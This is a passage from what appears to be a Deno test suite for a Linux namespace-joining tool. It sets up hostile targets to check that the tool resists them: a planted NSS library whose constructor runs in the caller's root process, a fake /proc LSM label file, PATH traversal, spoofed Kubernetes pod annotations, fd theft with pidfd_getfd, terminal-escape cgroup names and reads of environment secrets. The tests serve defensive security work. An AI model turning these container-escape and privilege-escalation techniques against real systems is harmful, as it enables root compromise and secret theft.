  return (await new Deno.Command(cmd, { args, stdout: "null", stderr: "null" }).output()).success;
}

/**
 * An NSS module of the target's: glibc loads `libnss_NAME.so.2` for each NAME the
 * nsswitch.conf it reads lists, by name, from the library directories of the calling
 * thread's mount namespace. Its constructor records which process ran it.
 */
const NSS_MODULE_C = String.raw`
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void planted(void) {
  char buf[64];
  int n = snprintf(buf, sizeof buf, "pid=%d uid=%d\n", getpid(), getuid());
  int fd = open("/tmp/nsjoin-nss-marker", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) write(fd, buf, n);
}
`;

Deno.test({
  name:
    "stop 18: inNamespaces with mnt never loads the target's NSS modules (a name lookup ran its code as root)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-nss-" });
    let target: Deno.ChildProcess | undefined;
    try {
      const arch = (await sh("gcc", ["-print-multiarch"])).trim() || "x86_64-linux-gnu";
      await Deno.mkdir(`${dir}/lib`);
      await Deno.writeTextFile(`${dir}/nss.c`, NSS_MODULE_C);
      assert(
        await runPipedOk("gcc", [
          "-shared",
          "-fPIC",
          "-o",
          `${dir}/lib/libnss_planted.so.2`,
          `${dir}/nss.c`,
        ]),
        "gcc failed",
      );
      await Deno.writeTextFile(
        `${dir}/nsswitch.conf`,
        "passwd: planted files\ngroup: planted files\nhosts: planted files\n",
      );
      // The target: a mount namespace of its own (as a container's, or a local user's
      // `unshare -Urm`) whose nsswitch.conf names a module it put in its library directory.
      const libdir = `/usr/lib/${arch}`;
      const setup = [
        `mount -t overlay overlay -o lowerdir=${dir}/lib:${libdir} ${libdir}`,
        `mount --bind ${dir}/nsswitch.conf /etc/nsswitch.conf`,
        "mount -t tmpfs none /tmp",
        "echo ready",
        "exec sleep 1000",
      ].join(" && ");
      target = new Deno.Command("unshare", {
        args: ["-m", "--propagation", "private", "sh", "-c", setup],
        stdin: "null",
        stdout: "piped",
      }).spawn();
      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
      const first = await reader.read();
      assertEquals(first.value?.trim(), "ready");
      const pid = target.pid;
      const marker = `/proc/${pid}/root/tmp/nsjoin-nss-marker`;
      // A fresh Deno (glibc's NSS not yet set up), as a script that starts with it would.
      const script = (before: string) =>
        `import { inNamespaces } from "${ROOT}mod.ts";\n${before}\n` +
        `console.log(await inNamespaces(${pid}, async () => {\n` +
        `  try { (await Deno.connect({ hostname: "nsjoin-no-such-host", port: 9 })).close(); }\n` +
        `  catch (e) { return (e as Error).name; }\n` +
        `}, { namespaces: ["mnt"] }));\n`;
      const run = async (before: string) => {
        await Deno.remove(marker).catch(() => {});
        await Deno.writeTextFile(`${dir}/job.ts`, script(before));
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/job.ts`],
          stdout: "piped",
          stderr: "piped",
        }).output();
        assertEquals(out.code, 0, text(out.stderr));
        const ran = await Deno.readTextFile(marker).catch(() => "");
        return { out: text(out.stdout), ran };
      };
      await t.step("a name looked up first inside the target", async () => {
        const r = await run("");
        assertEquals(r.ran, "", `the target's module ran in the caller's process: ${r.ran}`);
        assertMatch(r.out, /NotFound|Error/);
      });
      await t.step("after the host's NSS was used (glibc reloads a changed file)", async () => {
        const r = await run(
          `try { (await Deno.connect({ hostname: "nsjoin-no-such-host", port: 9 })).close(); } catch { /* none */ }`,
        );
        assertEquals(r.ran, "", `the target's module ran in the caller's process: ${r.ran}`);
      });
      await t.step("names still resolve, inside (the target's /etc/hosts) and out", async () => {
        await Deno.writeTextFile(
          `${dir}/job.ts`,
          `import { inNamespaces } from "${ROOT}mod.ts";
` +
            `const refused = async () => { try { (await Deno.connect({ hostname: "localhost", port: 1 })).close(); } catch (e) { return (e as Error).name; } };
` +
            `console.log(await inNamespaces(${pid}, ${"async () => { try { (await Deno.connect({ hostname: 'localhost', port: 1 })).close(); } catch (e) { return (e as Error).name; } }"}, { namespaces: ["mnt"] }), await refused());
`,
        );
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/job.ts`],
          stdout: "piped",
          stderr: "piped",
        }).output();
        assertEquals(
          text(out.stdout).trim(),
          "ConnectionRefused ConnectionRefused",
          text(out.stderr),
        );
      });
    } finally {
      target?.kill("SIGKILL");
      await target?.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 18: the LSM exec label is written to the host's /proc, never one the target mounts (CVE-2019-16884, CVE-2023-27561)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // runc wrote the AppArmor label through the container's /proc, which a malicious image
    // had replaced: the write went to a plain file and the exec ran unconfined. The target
    // here mounts a tmpfs over its /proc with attr/exec as a plain file; the helper must
    // write where the kernel decides (before joining), and this kernel has no LSM, so the
    // real file refuses it: 125, and the fake one stays empty.
    const setup = [
      "mount -t tmpfs none /proc",
      "mkdir -p /proc/self/attr /proc/thread-self/attr",
      "touch /proc/self/attr/exec /proc/thread-self/attr/exec",
      "echo ready",
      "exec sleep 1000",
    ].join(" && ");
    const target = new Deno.Command("unshare", {
      args: ["-m", "--propagation", "private", "sh", "-c", setup],
      stdin: "null",
      stdout: "piped",
    }).spawn();
    try {
      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
      assertEquals((await reader.read()).value?.trim(), "ready");
      const out = await new Deno.Command(helper().path, {
        args: [`P${target.pid}`, "J20000", "aexec planted-unconfined", "--", "/bin/true"],
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
      }).output();
      const fake = [
        Deno.readTextFileSync(`/proc/${target.pid}/root/proc/self/attr/exec`),
        Deno.readTextFileSync(`/proc/${target.pid}/root/proc/thread-self/attr/exec`),
      ];
      assertEquals(fake, ["", ""], "the label went to the target's file");
      assertEquals(out.code, 125, text(out.stderr));
      assertMatch(text(out.stderr), /LSM exec label/);
    } finally {
      target.kill("SIGKILL");
      await target.status;
    }
  },
});

Deno.test({
  name: "stop 18: daxIn lists programs only in the target's own directories (a PATH with ..)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // A chrooted target whose PATH climbs out of its root: through /proc/PID/root the host
    // followed that `..` and listed the host's /etc as the target's programs.
    const root = await Deno.makeTempDir({ prefix: "nsjoin-daxpath-" });
    let target: Deno.ChildProcess | undefined;
    try {
      await Deno.mkdir(`${root}/bin`);
      await Deno.copyFile(
        (await sh("sh", ["-c", "command -v busybox"])).trim(),
        `${root}/bin/busybox`,
      );
      target = new Deno.Command("/usr/bin/unshare", {
        args: ["-m", "/usr/sbin/chroot", root, "/bin/busybox", "sleep", "1000"],
        env: { PATH: "/../../../../../../etc" },
        clearEnv: true,
        stdin: "null",
      }).spawn();
      for (let i = 0; i < 100; i++) {
        if (Deno.readLinkSync(`/proc/${target.pid}/root`) === root) break;
        await new Promise((r) => setTimeout(r, 10));
      }
      const { daxIn } = await import("../dax.ts");
      const $ = daxIn(target.pid);
      const r = await $`passwd`.noThrow().stdout("piped").stderr("piped");
      // Not a program of the target's: dax's own "command not found", never handed to nsjoin.
      assertMatch(r.stderr, /^dax: passwd: command not found/);
    } finally {
      target?.kill("SIGKILL");
      await target?.status;
      await Deno.remove(root, { recursive: true });
    }
  },
});

// ---- stop 18b: the terminal relay against the container's program

/** The host PIDs of processes whose argv is exactly `argv` and whose pid namespace is `pid`'s. */
function processesLike(pid: number, argv: string[]): number[] {
  const ns = Deno.readLinkSync(`/proc/${pid}/ns/pid`);
  const want = argv.join("\0") + "\0";
  const found: number[] = [];
  for (const e of Deno.readDirSync("/proc")) {
    if (!/^[0-9]+$/.test(e.name)) continue;
    try {
      if (
        Deno.readTextFileSync(`/proc/${e.name}/cmdline`) === want &&
        Deno.readLinkSync(`/proc/${e.name}/ns/pid`) === ns
      ) found.push(Number(e.name));
    } catch {
      // Gone meanwhile.
    }
  }
  return found;
}

Deno.test({
  name:
    "stop 18b: a program that leaves a process holding its output never keeps exec from returning (as docker exec)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    await using target = await makeTarget();
    // Root's `nsjoin exec PID ...` on a terminal: its stdio is relayed through pipes, which
    // the program's background child inherits and keeps (a container's `sh -c 'x &'`, or a
    // hostile program that wants root's script stuck). docker exec returns 2 s after its
    // program exits (containerd's shim waits that long for an exec's output); exec waited
    // for the pipes' end, for ever.
    const run = async (cli: string) => {
      const child = new Deno.Command("script", {
        args: [
          "-qec",
          `${Deno.execPath()} run -A --quiet --no-lock ${CLI} ${cli} ${target.pid} ` +
          `sh -c 'echo before; (sleep 1; echo late) & sleep 99999 & exit 3'`,
          "/dev/null",
        ],
        stdin: "piped",
        stdout: "piped",
        stderr: "piped",
        signal: AbortSignal.timeout(60_000),
      }).spawn();
      const r = await child.output();
      return { code: r.code, out: text(r.stdout) };
    };
    for (const cli of ["exec", "debug"]) {
      await t.step(cli, async () => {
        const r = await run(cli);
        // The program's code; what came within the grace period is written.
        assertEquals(r.code, 3, r.out);
        assertMatch(r.out, /before\r?\nlate/);
        // The holder is still there: exec returned while the pipe was open.
        const holders = processesLike(target.pid, ["sleep", "99999"]);
        assert(holders.length > 0, "the background process is gone");
        for (const p of holders) Deno.kill(p, "SIGKILL");
      });
    }
  },
});

// ---- stop 18b: NSS modules our nsswitch.conf names that this host does not have

Deno.test({
  name:
    "stop 18b: a module our nsswitch.conf names but this host lacks is never loaded from the target (services: db files)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const { withoutModules } = await import("../ffi/nss.ts");
    await t.step("the line glibc acts on without a module it cannot load", () => {
      const gone = new Set(["db", "nis"]);
      assertEquals(withoutModules("db files", gone), "files");
      assertEquals(withoutModules("files nis [UNAVAIL=return] dns", gone), "files");
      assertEquals(withoutModules("files nis [NOTFOUND=return] dns", gone), "files dns");
      assertEquals(withoutModules("nis [!UNAVAIL=return] files", gone), "files");
      assertEquals(
        withoutModules("files [NOTFOUND=return] systemd", gone),
        "files [NOTFOUND=return] systemd",
      );
    });
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-nss18b-" });
    let target: Deno.ChildProcess | undefined;
    try {
      // Debian's stock nsswitch.conf says `services: db files` and `netgroup: nis`, and
      // neither libnss-db nor NIS is installed by default (nor here): glibc dlopen()s
      // libnss_db.so.2 by name at the first services lookup, wherever the thread is.
      const module = `nsjoin${crypto.randomUUID().slice(0, 8)}`;
      const arch = (await sh("gcc", ["-print-multiarch"])).trim() || "x86_64-linux-gnu";
      await Deno.mkdir(`${dir}/lib`);
      await Deno.writeTextFile(`${dir}/nss.c`, NSS_MODULE_C);
      assert(
        await runPipedOk("gcc", [
          "-shared",
          "-fPIC",
          "-o",
          `${dir}/lib/libnss_${module}.so.2`,
          `${dir}/nss.c`,
        ]),
        "gcc failed",
      );
      await Deno.writeTextFile(
        `${dir}/nsswitch.conf`,
        `passwd: files\ngroup: files\nhosts: files dns\nservices: ${module} files\n`,
      );
      // The target plants that module in its library directory.
      const libdir = `/usr/lib/${arch}`;
      const setup = [
        `mount -t overlay overlay -o lowerdir=${dir}/lib:${libdir} ${libdir}`,
        "mount -t tmpfs none /tmp",
        "echo ready",
        "exec sleep 1000",
      ].join(" && ");
      target = new Deno.Command("unshare", {
        args: ["-m", "--propagation", "private", "sh", "-c", setup],
        stdin: "null",
        stdout: "piped",
      }).spawn();
      const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
      assertEquals((await reader.read()).value?.trim(), "ready");
      const pid = target.pid;
      const marker = `/proc/${pid}/root/tmp/nsjoin-nss-marker`;
      // Root's script (on a host whose nsswitch.conf is ours, bind-mounted for this run
      // only) asks for a service name inside the target's mount namespace.
      await Deno.writeTextFile(
        `${dir}/job.ts`,
        `import { inNamespaces } from "${ROOT}mod.ts";\n` +
          `console.log(await inNamespaces(${pid}, async () => {\n` +
          `  const dns = await import("node:dns");\n` +
          `  return (await dns.promises.lookupService("127.0.0.1", 22)).service;\n` +
          `}, { namespaces: ["mnt"] }));\n`,
      );
      const out = await new Deno.Command("unshare", {
        args: [
          "-m",
          "--propagation",
          "private",
          "sh",
          "-c",
          `mount --bind ${dir}/nsswitch.conf /etc/nsswitch.conf && exec ${Deno.execPath()} ` +
          `run -A --quiet --no-lock ${dir}/job.ts`,
        ],
        stdout: "piped",
        stderr: "piped",
      }).output();
      assertEquals(out.code, 0, text(out.stderr));
      const ran = await Deno.readTextFile(marker).catch(() => "");
      assertEquals(ran, "", `the target's module ran in the caller's process: ${ran}`);
      // Still answered, from the target's /etc/services (as the module's absence would).
      assertEquals(text(out.stdout).trim(), "ssh");
    } finally {
      target?.kill("SIGKILL");
      await target?.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 18b: a pod's own annotations in its OCI spec

Deno.test({
  name:
    "stop 18b: a pod's annotations never name it another namespace's pod (containerd's pod_annotations pass them into the spec)",
  ignore: !CI && (NEEDS_ROOT || !HAVE_CONTAINERD),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // A cluster whose containerd passes pod annotations through to the runtime (a
    // `pod_annotations` glob, for a runtime handler that reads them): every annotation of a
    // pod, a user's in their own namespace, is in its OCI spec. containerd writes its own
    // io.kubernetes.cri.* after them; CRI-O's keys it never writes.
    await using rt = await CriRuntime.start(["*"]);
    const env = { NSJOIN_CONTAINERD_STATE: rt.state };
    const tag = crypto.randomUUID().slice(0, 6);
    const hex = (n: number) =>
      Array.from(crypto.getRandomValues(new Uint8Array(n)), (b) => b.toString(16).padStart(2, "0"))
        .join("");
    // A pod of kube-system that is not on this node (or not yet running): its name is known.
    const claimed = `etcd-${tag}`;
    await rt.runPod("evil", `x-${tag}`, [{ name: "etcd", env: { WHO: "attacker" } }], {
      annotations: {
        "io.kubernetes.cri-o.ContainerType": "container",
        "io.kubernetes.cri-o.SandboxID": hex(32),
        "io.kubernetes.pod.namespace": "kube-system",
        "io.kubernetes.pod.name": claimed,
        "io.kubernetes.pod.uid": crypto.randomUUID(),
        "io.kubernetes.container.name": "etcd",
        // containerd's own keys too: it writes them again after these.
        "io.kubernetes.cri.sandbox-namespace": "kube-system",
        "io.kubernetes.cri.sandbox-name": claimed,
      },
    });
    const exec = (target: string) => _cli(["exec", target, "sh", "-c", "echo $WHO"], env);
    // Before, its sandbox and container were read as CRI-O's members of that pod: `ps` listed
    // them as kube-system's, root's exec of that pod's container found two of that name (both
    // the attacker's: refused as ambiguous, as the real pod's would be), and the attacker's
    // own name found nothing.
    await t.step("root's exec of the claimed pod finds nothing", async () => {
      const r = await exec(`k8s:kube-system/${claimed}/etcd`);
      assertEquals(r.stdout, "", "root's exec ran in the attacker's container");
      assertEquals(r.code, 125, r.stderr);
      assertMatch(r.stderr, /Cannot find pod/);
    });
    await t.step("the attacker's pod is its own", async () => {
      const r = await exec(`k8s:evil/x-${tag}/etcd`);
      assertEquals(r.stdout.trim(), "attacker", r.stderr);
      const ps = await _cli(["ps", "--json"], env);
      assert(!ps.stdout.includes(claimed), ps.stdout);
    });
  },
});

async function _cli(args: string[], env: Record<string, string>) {
  const o = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "--quiet", "--no-lock", CLI, ...args],
    env,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  return { code: o.code, stdout: text(o.stdout), stderr: text(o.stderr) };
}

// ---- stop 18b: a program in a user namespace its owner controls

/** Takes fds 0-2 of a process with pidfd_getfd (ptrace access) and says which are terminals. */
const GETFD_C = String.raw`
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
  int pidfd = syscall(SYS_pidfd_open, atoi(argv[1]), 0);
  for (int fd = 0; fd < 3; fd++) {
    int got = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    printf("fd%d=%s ", fd, got < 0 ? "refused" : isatty(got) ? "tty" : "other");
  }
  printf("\n");
  return 0;
}
`;

Deno.test({
  name:
    "stop 18b: exec -n user,… never leaves the caller's terminal to a program the namespace's owner controls",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-getfd-" });
    await Deno.chmod(dir, 0o755);
    const user = await testUser();
    try {
      await Deno.writeTextFile(`${dir}/getfd.c`, GETFD_C);
      assert(
        await runPipedOk("gcc", ["-O2", "-o", `${dir}/getfd`, `${dir}/getfd.c`]),
        "gcc failed",
      );
      // A local user's own user namespace (`unshare -Ur`, a rootless container's): a program
      // root runs in it has the user's uid on the host, so the user may ptrace it.
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-n"],
        user: { uid: user.uid, gid: user.gid },
      });
      const nap = `${Math.floor(Math.random() * 1000)}.5`;
      const root = new Deno.Command("script", {
        args: [
          "-qec",
          `${Deno.execPath()} run -A --quiet --no-lock ${CLI} exec -n user,net ${target.pid} ` +
          `/bin/sleep ${nap}`,
          "/dev/null",
        ],
        stdin: "piped",
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      try {
        let program = 0;
        await waitFor("the program", () => {
          for (const e of Deno.readDirSync("/proc")) {
            try {
              if (Deno.readTextFileSync(`/proc/${e.name}/cmdline`) === `/bin/sleep\0${nap}\0`) {
                program = Number(e.name);
              }
            } catch {
              // Not a process, or gone.
            }
          }
          return program > 0;
        }, 20_000);
        const taken = await sh("setpriv", [
          `--reuid=${user.uid}`,
          `--regid=${user.gid}`,
          "--clear-groups",
          `${dir}/getfd`,
          String(program),
        ]);
        // The user may take its fds (it is theirs), but none is root's terminal.
        assertMatch(taken, /fd1=other/);
        assert(!taken.includes("tty"), `the user took root's terminal: ${taken}`);
        Deno.kill(program, "SIGKILL");
      } finally {
        try {
          root.kill("SIGKILL");
        } catch {
          // Ended.
        }
        await root.output();
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 19: the caller's supplementary groups in a user namespace its owner controls

Deno.test({
  name:
    "stop 19: a program in a local user's user namespace (setgroups deny) never keeps the caller's supplementary groups",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-groups-" });
    await Deno.chmod(dir, 0o755);
    const user = await testUser();
    // A file only a member of group 4242 may read (its owner is root, unmapped in the
    // namespace: no capability of the namespace's root reaches it).
    const secret = `sec19-secret-${crypto.randomUUID()}`;
    const file = `${dir}/secret`;
    await Deno.writeTextFile(file, secret);
    await Deno.chown(file, 0, 4242);
    await Deno.chmod(file, 0o640);
    try {
      // Control: the group is what lets a process of the user's uid read it.
      const asMember = await runPiped("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--groups=4242", "cat", file],
      });
      assertEquals(asMember.stdout, secret, "the user with group 4242 reads the file");
      // `unshare -Ur` writes "deny" to setgroups before its gid_map: setgroups(2) inside is
      // refused. A program root runs there has the user's uid on the host: theirs to ptrace.
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user"],
        user: { uid: user.uid, gid: user.gid },
      });
      assertEquals(Deno.readTextFileSync(`/proc/${target.pid}/setgroups`).trim(), "deny");
      // Root with a supplementary group (a service's, `sg`, a login's group 0).
      const asRoot = (args: string[]) =>
        runPiped("setpriv", { args: ["--groups=4242", ...args, "/bin/cat", file] });
      const anchor = await asRoot(["nsenter", "-t", String(target.pid), "-U"]);
      assert(!anchor.stdout.includes(secret), "nsenter's program kept root's group");
      assertMatch(anchor.stderr, /Permission denied/);
      const cli = [Deno.execPath(), "run", "-A", "--quiet", "--no-lock", CLI];
      for (
        const args of [
          ["exec", String(target.pid)],
          ["exec", "-n", "user", String(target.pid)],
          ["enter", "-t", String(target.pid), "-a"],
          ["enter", "-t", String(target.pid), "-U"],
        ]
      ) {
        await t.step(args.join(" "), async () => {
          const out = await asRoot([...cli, ...args]);
          assert(!out.stdout.includes(secret), `the program read the file: ${args.join(" ")}`);
          assertMatch(out.stderr, /Permission denied/);
        });
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 19: a cgroup's name in the helper's messages

Deno.test({
  name:
    "stop 19: a cgroup named with terminal escapes reaches the caller's terminal escaped when its join fails",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // Whoever may make cgroups (a delegated subtree, a container with a writable cgroupfs)
    // names them: a name with ESC and BEL, a title-setting sequence and a screen clear.
    const hierarchy = "/sys/fs/cgroup/pids";
    assert(await exists(`${hierarchy}/tasks`), `${hierarchy} is this machine kind's v1 pids`);
    const name = `nsjoin-sec19-${Math.random().toString(36).slice(2)}-\x1b]0;PWNED\x07\x1b[2J`;
    const dir = `${hierarchy}/${name}`;
    await Deno.mkdir(dir);
    await using target = await makeTarget({ flags: ["-u"] });
    try {
      await Deno.writeTextFile(`${dir}/tasks`, String(target.pid));
      // The name's owner empties and removes it while root's exec is between opening its
      // tasks file and writing to it (a window strace widens: each setns waits 2 s).
      const exec = new Deno.Command("strace", {
        args: [
          ...["-f", "-qq", "-o", "/dev/null", "-e", "trace=setns"],
          ...["-e", "inject=setns:delay_exit=2000000"],
          ...[Deno.execPath(), "run", "-A", "--quiet", "--no-lock", CLI],
          ...["exec", "-n", "uts", String(target.pid), "true"],
        ],
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const holding = () => {
        for (const p of Deno.readDirSync("/proc")) {
          if (!/^\d+$/.test(p.name)) continue;
          try {
            for (const fd of Deno.readDirSync(`/proc/${p.name}/fd`)) {
              if (Deno.readLinkSync(`/proc/${p.name}/fd/${fd.name}`) === `${dir}/tasks`) {
                return true;
              }
            }
          } catch {
            // Gone, or not ours to read.
          }
        }
        return false;
      };
      await waitFor("the helper holding the tasks file", holding, 30_000);
      await Deno.writeTextFile(`${hierarchy}/tasks`, String(target.pid));
      await Deno.remove(dir);
      const out = await exec.output();
      const err = text(out.stderr);
      assertEquals(out.code, 125, err);
      assertMatch(err, /Cannot join cgroup .*nsjoin-sec19-.*\\x1b\]0;PWNED\\x07\\x1b\[2J/);
      assert(
        !err.includes("\x1b") && !err.includes("\x07"),
        `a raw escape reached the terminal: ${JSON.stringify(err)}`,
      );
    } finally {
      try {
        await Deno.writeTextFile(`${hierarchy}/tasks`, String(target.pid));
        await Deno.remove(dir);
      } catch {
        // Removed above.
      }
    }
  },
});

// ---- stop 19: the caller's environment in a program the target can read

/**
 * Prints its PID, waits for SIGUSR1, then moves itself into a user namespace of its own
 * (root mapped to its uid, as `unshare -r`), prints "userns" and sleeps.
 */
const LATE_USERNS_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void put(const char *file, const char *text) {
  int fd = open(file, O_WRONLY);
  if (fd >= 0) { write(fd, text, strlen(text)); close(fd); }
}
int main(void) {
  sigset_t set;
  int sig;
  sigemptyset(&set);
  sigaddset(&set, SIGUSR1);
  sigprocmask(SIG_BLOCK, &set, 0);
  printf("%d\n", getpid());
  fflush(stdout);
  sigwait(&set, &sig);
  char map[64];
  unsigned uid = getuid(), gid = getgid();
  if (unshare(CLONE_NEWUSER) != 0) return 1;
  snprintf(map, sizeof map, "0 %u 1", uid);
  put("/proc/self/uid_map", map);
  put("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", gid);
  put("/proc/self/gid_map", map);
  printf("userns\n");
  fflush(stdout);
  for (;;) pause();
}
`;

/** The PID of the process whose argv is exactly `argv`, once there is one. */
async function processWithArgv(argv: string[]): Promise<number> {
  const want = argv.join("\0") + "\0";
  let found = 0;
  await waitFor(argv.join(" "), () => {
    for (const e of Deno.readDirSync("/proc")) {
      try {
        if (Deno.readTextFileSync(`/proc/${e.name}/cmdline`) === want) found = Number(e.name);
      } catch {
        // Not a process, or gone.
      }
    }
    return found > 0;
  }, 20_000);
  return found;
}

Deno.test({
  name:
    "stop 19: exec's host program never carries the caller's environment where the target reads it (its user or pid namespace)",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    // A secret of root's shell (a token an automation job exports).
    const secret = `sec19-token-${crypto.randomUUID()}`;
    const cli = [Deno.execPath(), "run", "-A", "--quiet", "--no-lock", CLI, "exec", "-d"];
    const detached = async (args: string[], nap: string) => {
      const out = await runPiped(cli[0], {
        args: [...cli.slice(1), ...args, "/bin/sleep", nap],
        env: { SECRET_TOKEN: secret },
      });
      assertEquals(out.code, 0, out.stderr);
      return await processWithArgv(["/bin/sleep", nap]);
    };
    await t.step("a local user's unshare -Ur: the user reads /proc/PID/environ", async () => {
      const user = await testUser();
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user"],
        user: { uid: user.uid, gid: user.gid },
      });
      for (const ns of [[], ["-n", "user,net"]]) {
        const nap = `${Math.floor(Math.random() * 1000) + 100}.25`;
        const program = await detached([...ns, String(target.pid)], nap);
        try {
          // The program runs with the user's uid on the host: theirs to read.
          const read = await runPiped("setpriv", {
            args: [
              ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
              ...["cat", `/proc/${program}/environ`],
            ],
          });
          assertEquals(read.code, 0, read.stderr);
          assert(read.stdout.includes("PATH="), "the user reads the program's environment");
          assert(!read.stdout.includes(secret), `the user read root's secret (${ns.join(" ")})`);
        } finally {
          Deno.kill(program, "SIGKILL");
        }
      }
    });
    await t.step(
      "a process that makes a user namespace between exec's plan and its join",
      async () => {
        // A root-made net namespace with a user's process in it (a service's PrivateNetwork):
        // nothing of it is the user's when exec plans, and on SIGUSR1 the process makes a user
        // namespace of its own, which joining "all" (what differs when the helper runs) took.
        const user = await testUser();
        const dir = await Deno.makeTempDir({ prefix: "nsjoin-userns-" });
        await Deno.chmod(dir, 0o755);
        try {
          await Deno.writeTextFile(`${dir}/late.c`, LATE_USERNS_C);
          assert(await runPipedOk("gcc", ["-O2", "-o", `${dir}/late`, `${dir}/late.c`]), "gcc");
          const late = new Deno.Command("unshare", {
            args: [
              ...["-n", "setpriv", `--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
              `${dir}/late`,
            ],
            stdout: "piped",
          }).spawn();
          const reader = late.stdout.getReader();
          const pid = Number(text((await reader.read()).value!).trim());
          const nap = `${Math.floor(Math.random() * 1000) + 100}.5`;
          // strace holds every execve for 2 s (its counter is per process): the helper's start.
          const exec = new Deno.Command("strace", {
            args: [
              ...["-f", "-qq", "-o", "/dev/null", "-e", "trace=execve"],
              ...["-e", "inject=execve:delay_enter=2000000"],
              ...cli,
              ...[String(pid), "/bin/sleep", nap],
            ],
            env: { SECRET_TOKEN: secret },
            stdout: "null",
            stderr: "piped",
          }).spawn();
          try {
            // Planned once Deno has a child: the helper, held in execve.
            await waitFor("the helper", () => {
              try {
                const deno = Number(
                  Deno.readTextFileSync(`/proc/${exec.pid}/task/${exec.pid}/children`).trim()
                    .split(/\s+/)[0],
                );
                return deno > 0 &&
                  Deno.readTextFileSync(`/proc/${deno}/task/${deno}/children`).trim() !== "";
              } catch {
                return false;
              }
            }, 20_000);
            Deno.kill(pid, "SIGUSR1");
            assertEquals(text((await reader.read()).value!).trim(), "userns");
            const program = await processWithArgv(["/bin/sleep", nap]);
            try {
              const read = await runPiped("setpriv", {
                args: [
                  ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups"],
                  ...["cat", `/proc/${program}/environ`],
                ],
              });
              assert(!read.stdout.includes(secret), "the user read root's secret");
            } finally {
              Deno.kill(program, "SIGKILL");
            }
            // strace follows the program too: it ends with it.
            const out = await exec.output();
            assertEquals(out.code, 0, text(out.stderr));
          } finally {
            try {
              exec.kill("SIGKILL");
            } catch {
              // Ended.
            }
            reader.releaseLock();
            late.kill("SIGKILL");
            await late.status;
            await late.stdout.cancel().catch(() => {});
          }
        } finally {
          await Deno.remove(dir, { recursive: true });
        }
      },
    );
    await t.step("exec -n pid,net of a docker container: refused (stop 21)", async () => {
      // Its root read the program's environment here, and its whole root directory too (our
      // file system): a host program never joins a container's pid namespace without its
      // mount namespace since stop 21 ("stop 21: exec never puts a host program…").
      await dockerImage();
      const name = `nsjoin-env-${Math.random().toString(36).slice(2, 8)}`;
      const c = await startContainer("docker", name);
      try {
        const out = await runPiped(cli[0], {
          args: [...cli.slice(1), "-n", "pid,net", name, "/bin/sleep", "1"],
          env: { SECRET_TOKEN: secret },
        });
        assertEquals(out.code, 2, out.stderr);
      } finally {
        await removeContainers([c]);
      }
    });
  },
});

// ---- stop 19b: the pty's /dev/ptmx is the target's to choose
Deno.test({
  name:
    "exec -t opens only the pty multiplexer at the target's /dev/ptmx, never what its root put there",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // The helper opens /dev/ptmx as the caller (host root), outside the container's device
    // cgroup: a container root with CAP_MKNOD could name any device there (a /dev/watchdog
    // arms the host's watchdog when opened). A FIFO shows the open from inside: a reader
    // blocked on it wakes when anything opens it for writing, and says so.
    await using fifo = await makeTarget({
      flags: ["-m", "-p", "--fork", "--mount-proc"],
      // (/dev/null: sh points a background job's stdin there.)
      setup: "mount -t tmpfs t /dev && mknod -m 666 /dev/null c 1 3 && mkfifo /dev/ptmx && " +
        "{ (exec 3</dev/ptmx; echo opened > /dev/flag) & }",
    });
    // Another device (/dev/null's numbers): refused the same, by its device numbers.
    await using device = await makeTarget({
      flags: ["-m", "-p", "--fork", "--mount-proc"],
      setup: "mount -t tmpfs t /dev && mknod /dev/ptmx c 1 3",
    });
    // As docker and podman make it: /dev/ptmx a symlink to the ptmx of its own devpts.
    await using devpts = await makeTarget({
